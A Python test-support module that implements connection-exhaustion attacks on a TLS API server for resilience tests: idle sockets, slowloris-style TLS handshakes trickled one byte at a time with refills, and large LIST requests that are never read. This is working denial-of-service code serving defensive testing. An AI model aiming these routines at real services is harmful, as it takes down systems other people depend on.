"""Connection attacks for end-to-end tests and tools/measure-connections: trickling TLS
connections (slowloris), idle connections, LISTs that are never read, and /proc readings of
the attacked process.

    trickler = attack.Trickler(host, port, 5000, refill=200)  # held until stop()
    ...
    trickler.stop()

    attack.fill_namespace(api, "big", attack.unreadable_list_bytes())
    stuck = attack.StuckLists(api, "/api/v1/namespaces/big/configmaps", 400)
    ...
    stuck.stop()

Every wait is bounded; the caller stops what it starts.
"""

import os
import resource
import select
import socket
import ssl
import threading
import time


def raise_own_open_file_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def count_entries(path):
    try:
        return len(os.listdir(path))
    except OSError:
        return -1


def threads_of(pid):
    return count_entries("/proc/%d/task" % pid)


def fds_of(pid):
    return count_entries("/proc/%d/fd" % pid)


def wait_until(predicate, timeout):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.2)
    return predicate()


def open_idle_connections(host, port, count):
    """Opens up to `count` TCP connections that send nothing; returns them. Paced, so that
    a server with a short listen backlog accepts each of them rather than dropping them."""
    sockets = []
    for i in range(count):
        if i % 20 == 19:
            time.sleep(0.02)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((host, port))
        except OSError:
            s.close()
            break
        sockets.append(s)
    return sockets


def close_all(sockets):
    for s in sockets:
        try:
            s.close()
        except OSError:
            pass


def client_hello():
    """The bytes of a real TLS ClientHello (from Python's ssl, through memory BIOs)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def open_handshaking_connections(host, port, count, answer_timeout=5):
    """Opens up to `count` connections, each with a real ClientHello sent and the server's
    first answer (its ServerHello) received: the server has accepted it and waits for the rest
    of the handshake. Stops when the server no longer answers (it cannot accept any more)."""
    hello = client_hello()
    sockets = []
    unanswered = 0
    while len(sockets) < count and unanswered < 3:
        try:
            s = socket.create_connection((host, port), answer_timeout)
        except OSError:
            unanswered += 1
            continue
        try:
            s.sendall(hello)
            if s.recv(1):
                s.setblocking(False)
                sockets.append(s)
                unanswered = 0
                continue
        except OSError:
            pass
        s.close()
        unanswered += 1
    return sockets


class Trickler:
    """Connections in the middle of a TLS handshake that send the client's next record one byte
    at a time: the record declares 16 KB, so the handshake never completes, and no per-read
    timeout of the server ever fires (each byte restarts it)."""

    RECORD = bytes.fromhex("1703034000")

    def __init__(self, host, port, count, interval=0.5, refill=0):
        """`refill`: connections the server closed are replaced, up to that many per round
        (an attacker keeping `count` connections open)."""
        self.host, self.port, self.refill = host, port, refill
        self.reopened = 0
        self.sockets = open_handshaking_connections(host, port, count)
        self.open = [True] * len(self.sockets)
        self.sent = 0
        self.stopped = threading.Event()
        self.interval = interval
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def closed_by_server(self):
        return self.open.count(False)

    def _run(self):
        while not self.stopped.is_set():
            byte = self.RECORD[self.sent:self.sent + 1] or b"\x00"
            for i, s in enumerate(self.sockets):
                if not self.open[i]:
                    continue
                try:
                    s.send(byte)
                    # A server that closed the connection answers with a FIN (or RST).
                    if s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
                        self.open[i] = False
                except BlockingIOError:
                    pass
                except OSError:
                    self.open[i] = False
            if self.refill:
                self._refill()
            self.sent += 1
            self.stopped.wait(self.interval)

    def _refill(self):
        budget = self.refill
        for i, is_open in enumerate(self.open):
            if is_open:
                continue
            if budget == 0:
                break
            budget -= 1
            replacement = open_handshaking_connections(self.host, self.port, 1, 1)
            if not replacement:
                break
            close_all([self.sockets[i]])
            self.sockets[i] = replacement[0]
            self.open[i] = True
            self.reopened += 1

    def stop(self):
        self.stopped.set()
        self.thread.join(10)
        close_all(self.sockets)


def vm_kib(pid, field):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def unreadable_list_bytes():
    """Bytes of a LIST answer that a client reading nothing cannot take whole: more than the
    largest send buffer the kernel gives a socket (net.ipv4.tcp_wmem, autotuned up to it even
    towards a peer that reads nothing) plus 4 MiB."""
    with open("/proc/sys/net/ipv4/tcp_wmem") as f:
        largest = int(f.read().split()[2])
    return max(largest, 4 << 20) + (4 << 20)


def fill_namespace(api, namespace, total_bytes, item_bytes=100 * 1024):
    """Creates `namespace` and ConfigMaps of `item_bytes` in it until `total_bytes`; returns how
    many."""
    api.ensure_namespace(namespace)
    value = "x" * item_bytes
    count = 0
    while count * item_bytes < total_bytes:
        status, body = api.request("POST", "/api/v1/namespaces/%s/configmaps" % namespace, {
            "apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "cm-%05d" % count},
            "data": {"v": value}})
        if status not in (201, 409):
            raise AssertionError("creating ConfigMap %d: %s %s" % (count, status, body))
        count += 1
    return count


class StuckLists:
    """`count` TLS clients that each send a GET of `path` (a large LIST) with the API token and
    read nothing, with a 4 KiB receive buffer: once the server's socket buffer is full, its
    writes block. With `refill`, a connection the server closes is replaced (an attacker that
    keeps `count` LISTs stuck); `replaced` counts those."""

    def __init__(self, api, path, count, refill=True, interval=0.2):
        self.api, self.path, self.refill, self.interval = api, path, refill, interval
        self.replaced = 0
        self.closed = 0
        self.lock = threading.Lock()
        self.sockets = [self._open() for _ in range(count)]
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _open(self):
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.settimeout(20)
        raw.connect((self.api.host, self.api.port))
        tls = self.api.context.wrap_socket(raw, server_hostname=self.api.host)
        tls.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n"
                     "Authorization: Bearer %s\r\n\r\n" % (self.path, self.api.token)).encode())
        return tls

    def closed_by_server(self):
        with self.lock:
            return self.closed

    def _run(self):
        # The server's FIN shows as POLLRDHUP although unread answer bytes are still queued.
        events = select.POLLRDHUP | select.POLLHUP | select.POLLERR
        while not self.stopped.is_set():
            poller = select.poll()
            by_fd = {}
            for i, s in enumerate(self.sockets):
                if s is not None:
                    poller.register(s.fileno(), events)
                    by_fd[s.fileno()] = i
            for fd, _ in poller.poll(0):
                i = by_fd[fd]
                close_all([self.sockets[i]])
                self.sockets[i] = None
                with self.lock:
                    self.closed += 1
                if self.refill and not self.stopped.is_set():
                    try:
                        self.sockets[i] = self._open()
                        self.replaced += 1
                    except OSError:
                        pass
            self.stopped.wait(self.interval)

    def stop(self):
        self.stopped.set()
        self.thread.join(10)
        close_all([s for s in self.sockets if s is not None])


def timed_requests(api, path, count, interval=0.1):
    """`count` GETs of `path`, each on a new TLS connection (what a new kubectl does), paced by
    `interval`; returns [(status, seconds)] (status -1: no answer)."""
    results = []
    for _ in range(count):
        start = time.monotonic()
        try:
            status, _, _ = api.raw_request("GET", path)
        except (OSError, ssl.SSLError, ConnectionError):
            status = -1
        results.append((status, time.monotonic() - start))
        time.sleep(interval)
    return results
